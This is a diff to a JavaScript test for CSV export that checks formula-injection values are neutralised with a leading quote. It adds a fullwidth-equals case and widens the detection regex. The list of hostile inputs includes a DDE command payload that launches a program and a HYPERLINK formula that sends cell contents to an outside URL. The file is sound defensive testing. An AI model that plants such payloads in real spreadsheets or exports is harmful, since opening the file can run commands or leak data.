@@ -26,6 +26,7 @@ const HOSTILE = [
   '\t=1',
   '\r=1',
   '\n=1',
+  '＝1+1',
   `=HYPERLINK("http://example.org?"&A1,"click")`,
   `=cmd|' /C calc'!A0`,
   '"quoted"',
@@ -73,7 +74,7 @@ test('CSV: every text comes back, with a quote before what could be a formula', 
   expect(rows.map((row) => row['field.=field'])).toEqual(harmless);
   expect(new Set(rows.map((row) => row['batch_name']))).toEqual(new Set([`'=1+1`]));
   const cells = rows.flatMap((row) => Object.values(row)).map(String);
-  expect(cells.filter((cell) => /^[=+\-@\t\r\0]/u.test(cell))).toEqual([]);
+  expect(cells.filter((cell) => /^(?!-5$)[=+\-@＝\t\n\r\0]/u.test(cell))).toEqual([]);
 });
 
 test('NDJSON: every text comes back as it was', async () => {
